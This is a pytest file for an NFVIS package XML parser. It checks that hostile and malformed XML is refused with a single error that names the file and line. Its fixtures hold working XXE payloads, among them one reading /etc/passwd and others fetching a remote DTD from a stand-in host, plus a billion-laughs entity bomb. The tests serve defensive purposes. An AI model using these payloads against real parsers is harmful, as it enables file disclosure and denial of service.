"""Hostile and broken XML in NFVIS package files: refused as one ERROR naming the file and line, never raised."""

import pytest

from nfvo.domain.nfvis.manifest import parse_manifest
from nfvo.domain.nfvis.properties import parse_properties
from nfvo.domain.nfvis.xmltree import MAX_DEPTH, parse_xml

XXE = """<?xml version="1.0"?>
<!DOCTYPE image_properties [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<image_properties><name>&xxe;</name></image_properties>
"""
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<image_properties><name>&lol3;</name></image_properties>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE image_properties SYSTEM "http://203.0.113.9/evil.dtd">
<image_properties/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [
<!ENTITY % remote SYSTEM "http://203.0.113.9/x.dtd">
%remote;
]>
<image_properties/>
"""
PUBLIC_DTD = """<!DOCTYPE image_properties PUBLIC "-//Example//DTD x//EN" "x.dtd">
<image_properties/>
"""


@pytest.mark.parametrize("document, line, words", [
    (XXE, 3, "external entity 'xxe' ('file:///etc/passwd') is refused"),
    (BILLION_LAUGHS, 3, "entity declaration 'lol' is refused"),
    (EXTERNAL_DTD, 2, "external DTD 'http://203.0.113.9/evil.dtd' is refused"),
    (PARAMETER_ENTITY, 3, "external entity 'remote' ('http://203.0.113.9/x.dtd') is refused"),
    (PUBLIC_DTD, 1, "external DTD 'x.dtd' is refused"),
])
def test_hostile_properties_are_one_error_naming_the_file(document, line, words):
    model, issues = parse_properties(document.encode())
    assert model is None
    assert len(issues) == 1
    issue = issues[0]
    assert (issue.file, issue.line, issue.severity) == ("image_properties.xml", line, "error")
    assert words in issue.message


def test_hostile_manifest_is_refused_the_same_way():
    document = XXE.replace("image_properties", "PackageContents")
    manifest, issues = parse_manifest(document)
    assert manifest is None
    assert [(i.file, i.line) for i in issues] == [("package.mf", 3)]
    assert "XXE" in issues[0].message


def test_billion_laughs_does_not_expand():
    # Ten levels of ten would be 10**10 "lol"s; refused at the first declaration.
    levels = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    document = f"<!DOCTYPE x [{''.join(levels)}]><image_properties><name>&l9;</name></image_properties>"
    model, issues = parse_properties(document)
    assert model is None and "'l0' is refused" in issues[0].message


@pytest.mark.parametrize("document, line, words", [
    ("<image_properties>\n<name>x</nam>\n</image_properties>", 2, "not well-formed XML (column 10): mismatched tag"),
    ("<image_properties><name>&nope;</name></image_properties>", 1, "undefined entity"),
    ("", 1, "no element found"),
    ("<image_properties/>\n<second/>", 2, "junk after document element"),
])
def test_broken_xml_is_one_error_with_its_line(document, line, words):
    model, issues = parse_properties(document)
    assert model is None
    assert [(i.file, i.line) for i in issues] == [("image_properties.xml", line)]
    assert words in issues[0].message


def test_nesting_is_capped():
    document = "<image_properties>" + "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH + "</image_properties>"
    root, issues = parse_xml(document, "image_properties.xml")
    assert root is None and issues[0].message == f"elements nested deeper than {MAX_DEPTH} levels"


def test_a_doctype_without_external_parts_is_read():
    root, issues = parse_xml("<!DOCTYPE image_properties>\n<image_properties><name>x</name></image_properties>",
                             "image_properties.xml")
    assert issues == [] and root.child("name").text == "x"


def test_elements_know_their_line_column_and_path():
    document = b"""<?xml version="1.0" encoding="UTF-8"?>
<image_properties xmlns="urn:example">
  <profiles>
    <profile><name>a</name></profile>
    <profile>
      <name>b</name>
    </profile>
  </profiles>
  <name>x</name>
</image_properties>
"""
    root, issues = parse_xml(document, "image_properties.xml")
    assert issues == []
    second = root.child("profiles").named("profile")[1]
    name = second.child("name")
    assert (name.line, name.column, name.path) == (6, 7, "/image_properties/profiles/profile[2]/name")
    assert root.child("name").path == "/image_properties/name"  # one <name> under the root: no index
    assert second.attribute_path("x") == "/image_properties/profiles/profile[2]/@x"
    assert [e.tag for e in root.walk()][:4] == ["image_properties", "profiles", "profile", "name"]


def test_encoding_declared_in_the_file_is_honoured():
    document = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<image_properties><name>caf\xe9</name></image_properties>'
    root, issues = parse_xml(document.encode("latin-1"), "image_properties.xml")
    assert issues == [] and root.child("name").text == "caf\u00e9"
